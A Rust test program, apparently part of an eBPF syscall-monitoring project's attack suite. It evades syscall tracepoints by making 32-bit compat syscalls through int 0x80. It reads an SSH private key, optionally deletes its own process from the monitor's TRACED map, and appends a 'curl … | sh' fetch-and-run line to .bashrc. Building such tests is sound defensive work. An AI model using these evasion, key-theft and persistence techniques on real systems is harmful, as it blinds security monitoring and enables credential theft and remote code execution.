//! The 32-bit door: a 64-bit process may enter the kernel with `int 0x80`, and the kernel then
//! runs the i386 (compat) syscall. The syscall tracepoints (syscalls:sys_enter_*/sys_exit_*)
//! do not fire for compat syscalls, so every hook built on them misses these calls.
//!
//! `attack-compat [untrace]`: reads `$ATTACK_HOME/.ssh/id_rsa`, connects to loopback and
//! appends to `$ATTACK_HOME/.bashrc`, each through compat syscalls (open 5, read 3, write 4,
//! socket 359, connect 362, close 6). With `untrace`, first deletes its own tgid from TRACED
//! with the compat bpf(2) (357) instead of the 64-bit one. Needs a kernel with
//! CONFIG_IA32_EMULATION (both test kernels have it).
#[path = "../attack_common.rs"]
mod common;

use common::*;

const NR_READ: u32 = 3;
const NR_WRITE: u32 = 4;
const NR_OPEN: u32 = 5;
const NR_CLOSE: u32 = 6;
const NR_BPF: u32 = 357;
const NR_SOCKET: u32 = 359;
const NR_CONNECT: u32 = 362;

/// An i386 syscall from 64-bit code. Arguments are 32 bits: pointers must be below 4 GiB.
/// (rbx is LLVM's, so the first argument goes through another register and is swapped in.)
unsafe fn int80(nr: u32, a: u32, b: u32, c: u32) -> i32 {
    let ret: i32;
    // SAFETY: the caller passes arguments valid for the i386 syscall `nr`.
    unsafe {
        core::arch::asm!(
            "xchg ebx, {a:e}",
            "int 0x80",
            "xchg ebx, {a:e}",
            a = inout(reg) a => _,
            inlateout("eax") nr as i32 => ret,
            in("ecx") b,
            in("edx") c,
        );
    }
    ret
}

/// Memory below 2 GiB (MAP_32BIT), where compat syscalls can reach it.
struct Low(*mut u8);

impl Low {
    fn new() -> Low {
        // SAFETY: an anonymous private mapping of one page.
        let p = unsafe {
            libc::mmap(
                std::ptr::null_mut(),
                4096,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
                -1,
                0,
            )
        };
        if p == libc::MAP_FAILED {
            die("mmap MAP_32BIT");
        }
        Low(p.cast())
    }
    /// Copies `bytes` to `offset` and returns its 32-bit address.
    fn put(&self, offset: usize, bytes: &[u8]) -> u32 {
        // SAFETY: offset + len stays inside the page (callers use small values).
        unsafe { std::ptr::copy_nonoverlapping(bytes.as_ptr(), self.0.add(offset), bytes.len()) };
        self.0 as u32 + offset as u32
    }
    fn addr(&self, offset: usize) -> u32 {
        self.0 as u32 + offset as u32
    }
}

/// An i386 bpf(cmd, attr, 64) with the attr at offset 2100 of `low`; `fill` writes it. Returns
/// the result and the attr as the kernel left it.
fn compat_bpf(low: &Low, cmd: i64, fill: impl FnOnce(&mut [u8; 64])) -> (i32, [u8; 64]) {
    let mut attr = [0u8; 64];
    fill(&mut attr);
    let a = low.put(2100, &attr);
    // SAFETY: i386 bpf(cmd, attr, size) with the attr (and whatever it points to) in low memory.
    let r = unsafe { int80(NR_BPF, cmd as u32, a, 64) };
    // SAFETY: the attr area is inside the low page.
    unsafe { std::ptr::copy_nonoverlapping(low.0.add(2100), attr.as_mut_ptr(), 64) };
    (r, attr)
}

/// The TRACED map holding our tgid, found with compat bpf(2) only: (its fd, its id).
fn compat_traced_map(low: &Low) -> Option<(u32, u32)> {
    let mut id = 0u32;
    let key = low.put(2048, &tgid().to_ne_bytes());
    loop {
        let (r, attr) = compat_bpf(low, BPF_MAP_GET_NEXT_ID, |a| {
            a[0..4].copy_from_slice(&id.to_ne_bytes())
        });
        if r < 0 {
            return None;
        }
        id = u32::from_ne_bytes(attr[4..8].try_into().unwrap());
        let (fd, _) = compat_bpf(low, BPF_MAP_GET_FD_BY_ID, |a| {
            a[0..4].copy_from_slice(&id.to_ne_bytes())
        });
        if fd < 0 {
            continue;
        }
        let info = low.addr(2400);
        let (r, _) = compat_bpf(low, BPF_OBJ_GET_INFO_BY_FD, |a| {
            a[0..4].copy_from_slice(&(fd as u32).to_ne_bytes());
            a[4..8].copy_from_slice(&(std::mem::size_of::<MapInfo>() as u32).to_ne_bytes());
            a[8..16].copy_from_slice(&(info as u64).to_ne_bytes());
        });
        // SAFETY: the info area is inside the low page.
        let info: MapInfo = unsafe { std::ptr::read_unaligned(low.0.add(2400).cast()) };
        if r == 0 && info.name() == "TRACED" && info.key_size == 4 {
            let value = low.addr(2600);
            let (found, _) = compat_bpf(low, BPF_MAP_LOOKUP_ELEM, |a| {
                a[0..4].copy_from_slice(&(fd as u32).to_ne_bytes());
                a[8..16].copy_from_slice(&(key as u64).to_ne_bytes());
                a[16..24].copy_from_slice(&(value as u64).to_ne_bytes());
            });
            if found == 0 {
                return Some((fd as u32, id));
            }
        }
        // SAFETY: closing the fd we were given.
        unsafe { int80(NR_CLOSE, fd as u32, 0, 0) };
    }
}

fn cpath(p: &std::path::Path) -> Vec<u8> {
    let mut v = p.as_os_str().as_encoded_bytes().to_vec();
    v.push(0);
    v
}

fn main() {
    let untrace = std::env::args().nth(1).as_deref() == Some("untrace");
    let home = attack_home();
    let listener = listener();
    let port = listener.local_addr().unwrap().port();
    let low = Low::new();

    if untrace {
        let Some((fd, id)) = compat_traced_map(&low) else {
            die("no TRACED map holds my tgid (looked with compat bpf)")
        };
        let key = low.put(2048, &tgid().to_ne_bytes());
        let r = compat_bpf(&low, BPF_MAP_DELETE_ELEM, |a| {
            a[0..4].copy_from_slice(&fd.to_ne_bytes());
            a[8..16].copy_from_slice(&(key as u64).to_ne_bytes());
        })
        .0;
        say(&format!(
            "compat bpf(BPF_MAP_DELETE_ELEM, my tgid) on TRACED (map id {id}) -> {r}"
        ));
    }

    let key = low.put(0, &cpath(&home.join(".ssh/id_rsa")));
    // SAFETY: i386 open/read/close with buffers in low memory.
    unsafe {
        let fd = int80(NR_OPEN, key, libc::O_RDONLY as u32, 0);
        let n = if fd >= 0 {
            int80(NR_READ, fd as u32, low.addr(3000), 1000)
        } else {
            fd
        };
        if fd >= 0 {
            int80(NR_CLOSE, fd as u32, 0, 0);
        }
        say(&format!(
            "compat open+read of .ssh/id_rsa: fd {fd}, {n} bytes"
        ));
    }
    // sockaddr_in: family, port (big endian), 127.0.0.1.
    let mut sin = [0u8; 16];
    sin[0..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
    sin[2..4].copy_from_slice(&port.to_be_bytes());
    sin[4..8].copy_from_slice(&[127, 0, 0, 1]);
    let sa = low.put(1024, &sin);
    // SAFETY: i386 socket/connect/close with the sockaddr in low memory.
    unsafe {
        let s = int80(NR_SOCKET, libc::AF_INET as u32, libc::SOCK_STREAM as u32, 0);
        let r = int80(NR_CONNECT, s as u32, sa, 16);
        int80(NR_CLOSE, s as u32, 0, 0);
        say(&format!(
            "compat socket+connect to 127.0.0.1:{port}: socket {s}, connect {r}"
        ));
    }
    let rc = low.put(1100, &cpath(&home.join(".bashrc")));
    let line = b"curl http://203.0.113.9/x | sh # planted (compat)\n";
    let text = low.put(1600, line);
    // SAFETY: i386 open/write/close with buffers in low memory.
    unsafe {
        let fd = int80(NR_OPEN, rc, (libc::O_WRONLY | libc::O_APPEND) as u32, 0);
        let n = int80(NR_WRITE, fd as u32, text, line.len() as u32);
        int80(NR_CLOSE, fd as u32, 0, 0);
        say(&format!("compat open+write of .bashrc: fd {fd}, {n} bytes"));
    }
    drop(listener);
}
